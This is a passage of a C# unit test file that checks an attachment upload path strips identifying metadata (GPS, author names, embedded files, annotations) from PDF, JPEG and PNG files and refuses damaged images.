        update.Append($"xref\n0 1\n0000000000 65535 f \n{number} 1\n{offset:D10} 00000 n \ntrailer\n<< /Size {size} /Root {root} /Prev {previous} >>\nstartxref\n{xref}\n%%EOF\n");
        return [.. pdf, .. Encoding.Latin1.GetBytes(update.ToString())];
    }

    // Cleans an uploaded PDF through the upload path and checks each identifying string is in the original file's
    // bytes (so the check can fail) and in neither the cleaned bytes nor any string, name or decoded stream PDFsharp
    // reads from the cleaned file; the page's text and page count survive.
    private static byte[] CleanPdf(byte[] original, string[] gone)
    {
        var before = Encoding.Latin1.GetString(original);
        var (type, cleaned, _) = Accept("statement.pdf", "application/pdf", original);
        Assert.Equal(AttachmentType.Pdf, type);
        var raw = Encoding.Latin1.GetString(cleaned);
        var parsed = ParsedText(cleaned);
        foreach (var g in gone)
        {
            Assert.Contains(g, before, StringComparison.Ordinal);
            Assert.DoesNotContain(g, raw, StringComparison.Ordinal);
            Assert.DoesNotContain(g, parsed, StringComparison.Ordinal);
        }

        Assert.Contains(TestPdf.PageText, raw, StringComparison.Ordinal);
        using var doc = OpenPdf(cleaned);
        Assert.Equal(1, doc.PageCount);
        return cleaned;
    }

    private static PdfSharp.Pdf.PdfDocument OpenPdf(byte[] pdf) =>
        PdfSharp.Pdf.IO.PdfReader.Open(new MemoryStream(pdf), PdfSharp.Pdf.IO.PdfDocumentOpenMode.Modify);

    // Every key, name and string of every object PDFsharp reads from the file, and every stream decoded.
    private static string ParsedText(byte[] pdf)
    {
        using var doc = OpenPdf(pdf);
        var text = new StringBuilder();
        var seen = new HashSet<PdfSharp.Pdf.PdfItem>(ReferenceEqualityComparer.Instance);
        void Walk(PdfSharp.Pdf.PdfItem? item)
        {
            switch (item)
            {
                case PdfSharp.Pdf.PdfString s:
                    text.AppendLine(s.Value);
                    break;
                case PdfSharp.Pdf.PdfName n:
                    text.AppendLine(n.Value);
                    break;
                case PdfSharp.Pdf.PdfDictionary d when seen.Add(d):
                    foreach (var (key, value) in d.Elements)
                    {
                        text.AppendLine(key);
                        Walk(value);
                    }

                    if (d.Stream is { } stream) text.AppendLine(Encoding.Latin1.GetString(stream.UnfilteredValue));
                    break;
                case PdfSharp.Pdf.PdfArray a when seen.Add(a):
                    foreach (var x in a.Elements) Walk(x);
                    break;
            }
        }

        foreach (var o in doc.Internals.GetAllObjects()) Walk(o);
        return text.ToString();
    }

    private static PdfSharp.Pdf.PdfDictionary Annotation(PdfSharp.Pdf.PdfDocument doc, string subtype)
    {
        var a = new PdfSharp.Pdf.PdfDictionary(doc);
        a.Elements.SetName("/Type", "/Annot");
        a.Elements.SetName("/Subtype", subtype);
        a.Elements["/Rect"] = new PdfSharp.Pdf.PdfArray(doc, new PdfSharp.Pdf.PdfInteger(72), new PdfSharp.Pdf.PdfInteger(600), new PdfSharp.Pdf.PdfInteger(92), new PdfSharp.Pdf.PdfInteger(620));
        doc.Internals.AddObject(a);
        return a;
    }

    // A file specification with the file embedded, as an indirect object.
    private static PdfSharp.Pdf.PdfDictionary EmbeddedFile(PdfSharp.Pdf.PdfDocument doc, string name, string content)
    {
        var file = new PdfSharp.Pdf.PdfDictionary(doc);
        file.Elements.SetName("/Type", "/EmbeddedFile");
        file.CreateStream(Encoding.Latin1.GetBytes(content));
        doc.Internals.AddObject(file);
        var spec = new PdfSharp.Pdf.PdfDictionary(doc);
        spec.Elements.SetName("/Type", "/Filespec");
        spec.Elements.SetString("/F", name);
        spec.Elements.SetString("/UF", name);
        spec.Elements["/EF"] = new PdfSharp.Pdf.PdfDictionary(doc) { Elements = { ["/F"] = file.ReferenceNotNull } };
        doc.Internals.AddObject(spec);
        return spec;
    }

    // A direct action dictionary of the given type with one string entry.
    private static PdfSharp.Pdf.PdfDictionary Action(PdfSharp.Pdf.PdfDocument doc, string type, string key, string value)
    {
        var a = new PdfSharp.Pdf.PdfDictionary(doc);
        a.Elements.SetName("/Type", "/Action");
        a.Elements.SetName("/S", type);
        a.Elements.SetString(key, value);
        return a;
    }

    [Fact]
    public void DamagedImages_AreRefused()
    {
        var jpeg = Jpeg(out _);
        Assert.Equal("content", Assert.Throws<DomainException>(() => Accept("a.jpg", "image/jpeg", jpeg[..40])).Field);
        var png = Png();
        var lying = (byte[])png.Clone();
        BinaryPrimitives.WriteUInt32BigEndian(lying.AsSpan(8), 0x7FFFFFF0); // IHDR claims a huge length
        Assert.Equal("content", Assert.Throws<DomainException>(() => Accept("a.png", "image/png", lying)).Field);
        Assert.Equal("content", Assert.Throws<DomainException>(() => Accept("a.png", "image/png", png[..30])).Field);
        // Text that is not UTF-8, or has control characters, is not plain text.
        Assert.Null(AttachmentContent.Sniff([0x41, 0xE9, 0x42]));
        Assert.Null(AttachmentContent.Sniff("a\u0001b"u8));
        Assert.Equal(AttachmentType.Text, AttachmentContent.Sniff("\uFEFFOlena\r\n\tKovalenko"u8));
    }

    private static byte[] Segment(byte marker, byte[] payload)
    {
        var b = new byte[4 + payload.Length];
        b[0] = 0xFF;
        b[1] = marker;
        BinaryPrimitives.WriteUInt16BigEndian(b.AsSpan(2), (ushort)(payload.Length + 2));
        payload.CopyTo(b, 4);
        return b;
    }

    /// <summary>A structurally complete JPEG with every kind of metadata a phone camera writes.</summary>
    private static byte[] Jpeg(out List<byte[]> pixelSegments)
    {
        var jfif = Encoding.Latin1.GetBytes("JFIF\0").Concat(new byte[] { 1, 2, 0, 0, 72, 0, 72, 2, 1 }).Concat(Encoding.Latin1.GetBytes("THUMBS")).ToArray();
        var exif = Encoding.Latin1.GetBytes("Exif\0\0MM\0*GPSLatitude 45.4642 N GPSLongitude 9.19 E");
        var xmp = Encoding.Latin1.GetBytes("http://ns.adobe.com/xap/1.0/\0<x:xmpmeta/>");
        var dqt = Segment(0xDB, [0, .. Enumerable.Range(1, 64).Select(i => (byte)i)]);
        var sof = Segment(0xC0, [8, 0, 16, 0, 16, 1, 1, 0x11, 0]);
        var dht = Segment(0xC4, [0, 0, 1, .. new byte[14], 0x2A]);
        var sos = Segment(0xDA, [1, 1, 0, 0, 63, 0]);
        var entropy = new byte[] { 0x12, 0xFF, 0x00, 0x34, 0xFF, 0xD0, 0x56, 0x78 };
        pixelSegments = [dqt, sof, dht, sos, entropy];
        return [0xFF, 0xD8, .. Segment(0xE0, jfif), .. Segment(0xE1, exif), .. Segment(0xE1, xmp), .. Segment(0xFE, Encoding.Latin1.GetBytes("Taken by Olena")),
            .. dqt, .. sof, .. dht, .. sos, .. entropy, 0xFF, 0xD9, .. Encoding.Latin1.GetBytes("after the end")];
    }

    private static byte[] Chunk(string type, byte[] data)
    {
        var b = new byte[12 + data.Length];
        BinaryPrimitives.WriteUInt32BigEndian(b, (uint)data.Length);
        Encoding.ASCII.GetBytes(type).CopyTo(b, 4);
        data.CopyTo(b, 8);
        // The CRC is left zero: the stripper copies chunks as they are and does not check it.
        return b;
    }

    private static byte[] Png() =>
    [
        0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A,
        .. Chunk("IHDR", [0, 0, 0, 1, 0, 0, 0, 1, 8, 3, 0, 0, 0]),
        .. Chunk("tEXt", Encoding.Latin1.GetBytes("Author\0Olena")),
        .. Chunk("zTXt", Encoding.Latin1.GetBytes("Comment\0\0x")),
        .. Chunk("iTXt", Encoding.Latin1.GetBytes("XML:com.adobe.xmp\0\0\0\0\0GPSLatitude")),
        .. Chunk("eXIf", Encoding.Latin1.GetBytes("MM\0*GPSLatitude")),
        .. Chunk("tIME", [0x07, 0xEA, 3, 1, 9, 0, 0]),
        .. Chunk("prVt", Encoding.Latin1.GetBytes("private")),
        .. Chunk("PLTE", [0, 0, 0]),
        .. Chunk("pHYs", [0, 0, 0x0B, 0x13, 0, 0, 0x0B, 0x13, 1]),
        .. Chunk("IDAT", [0x78, 0x9C, 0x63, 0x60, 0x00, 0x00, 0x00, 0x02, 0x00, 0x01]),
        .. Chunk("IEND", []),
        .. Encoding.Latin1.GetBytes("tEXt trailing"),
    ];
}
